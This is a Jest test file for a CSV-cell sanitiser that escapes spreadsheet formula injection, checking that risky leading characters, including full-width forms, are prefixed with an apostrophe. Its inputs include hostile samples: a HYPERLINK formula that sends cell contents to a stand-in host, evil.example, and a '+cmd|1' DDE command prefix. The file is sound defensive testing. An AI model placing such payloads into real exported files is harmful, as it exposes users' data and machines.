import { describe, expect, test } from '@jest/globals';
import { stringify } from 'csv-stringify/sync';
import { QUOTED_CELL, spreadsheetCell } from '../../src/routes/spreadsheet-cell.ts';

function cell(value: unknown): string {
  return stringify([[spreadsheetCell(value)]], { quoted_match: QUOTED_CELL }).slice(0, -1);
}

describe('a cell of CSV', () => {
  test.each([
    ['=1+1', `"'=1+1"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ['+cmd|1', `"'+cmd|1"`],
    ['-MOD09', `"'-MOD09"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['＝1+1', `"'＝1+1"`],
    ['＋1+1', `"'＋1+1"`],
    ['－1+1', `"'－1+1"`],
    ['＠SUM', `"'＠SUM"`],
    ['a;=1+1', '"a;=1+1"'],
  ])('%j is no formula: %s', (value, written) => expect(cell(value)).toBe(written));

  test.each([
    ['MOD09GQ.A2017025.h21v00.006.2017034065104', 'MOD09GQ.A2017025.h21v00.006.2017034065104'],
    ['MOD09GQ___006', 'MOD09GQ___006'],
    ['2017-10-24T00:00:00.000Z', '2017-10-24T00:00:00.000Z'],
    ['-5', '-5'],
    [-5, '-5'],
    ['+1.5e-3', '+1.5e-3'],
    ['a=b', 'a=b'],
    ['', ''],
    [undefined, ''],
    [null, ''],
  ])('%j stays plain', (value, written) => expect(cell(value)).toBe(written));
});
